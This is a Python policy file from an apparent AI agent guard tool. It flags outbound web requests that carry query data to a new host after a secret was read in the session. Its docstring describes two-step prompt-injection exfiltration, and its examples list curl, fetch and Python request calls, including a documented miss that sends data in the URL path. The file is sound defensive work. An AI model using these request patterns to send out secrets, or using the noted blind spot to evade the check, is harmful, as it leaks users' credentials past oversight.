"""What leaves the machine with data in it after a secret was read.

Why
    Injected text reads first and sends later, in two harmless-looking steps.
Instead
    Finish the task without sending, or ask.
Blind spots
    Data that leaves in the choice of what is read.
"""

from enactd.policy import Ask, Context, Example, GitPush, Opinions, Request, bash, policy


@policy(
    watches=(Request, GitPush),
    severity="high",
    stage="stable",
    since="0.1",
    incidents=("PI-05", "PI-10"),
    asks=(
        Example("Bash", {"command": "curl 'https://example.com/?q=abc'"}, ("session secret",)),
        Example("WebFetch", {"url": "https://example.com/?q=abc", "prompt": "x"}, ("session secret",)),
        Example("mcp__fetch__fetch", {"url": "https://example.com/?q=abc"}, ("session secret",)),
        bash("python3 -c \"import requests; requests.get('https://example.com/?q=abc')\"", given="session secret"),
    ),
    allows=(
        "curl 'https://example.com/?q=abc'",
        Example("Bash", {"command": "curl https://example.com/"}, ("session secret",)),
        Example("Bash", {"command": "git push origin feature/x"}, ("session secret",)),
    ),
    misses=(Example("Bash", {"command": "curl https://example.com/abc"}, ("session secret",)),),
)
def check(effect: Request | GitPush, context: Context) -> Opinions:
    if isinstance(effect, Request) and "secret" in context.session.taints and not effect.local:
        if "?" in effect.url and effect.host not in context.session.hosts:
            yield Ask(f"a secret was read in this session, and {effect.host or 'an unknown host'} would get data")
